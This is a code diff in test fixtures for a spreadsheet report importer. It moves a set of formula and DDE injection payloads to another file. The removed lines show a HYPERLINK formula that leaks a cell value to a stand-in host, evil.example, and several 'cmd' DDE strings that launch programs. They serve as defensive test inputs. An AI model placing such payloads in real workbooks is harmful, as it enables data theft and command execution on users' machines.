@@ -12,6 +12,7 @@ import { writeReport, type ReportSpec } from '../../import/fixtures';
 import { addDefinedNames, addSheet, rezip, setCell, unzip, type Package } from './workbookEdit';
 import { bombEntry } from './bomb';
 import { pdfDocument, pngPicture, wordDocument } from './foreignFiles';
+export { INJECTIONS } from './injections';
 
 export interface BadCase {
   /** The file name the importer sees (and must name in its error). */
@@ -119,15 +120,6 @@ export function columnName(index: number): string {
 }
 
 export { addDefinedNames, setCell, unzip, rezip };
-
-/** Formula and DDE payloads as a hostile clerk would type them into text cells. */
-export const INJECTIONS: Record<string, string> = {
-  text_work: '=HYPERLINK("http://evil.example/?leak="&B5,"点击查看附件")',
-  text_problems: "=cmd|' /C calc'!A0",
-  text_suggestions: "+cmd|' /C notepad'!A0",
-  text_cases: '-2+3+cmd|\' /C calc\'!A0',
-  cover_reviewer: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-};
 
 /**
  * Files that are real workbooks but the wrong report: each must be refused at
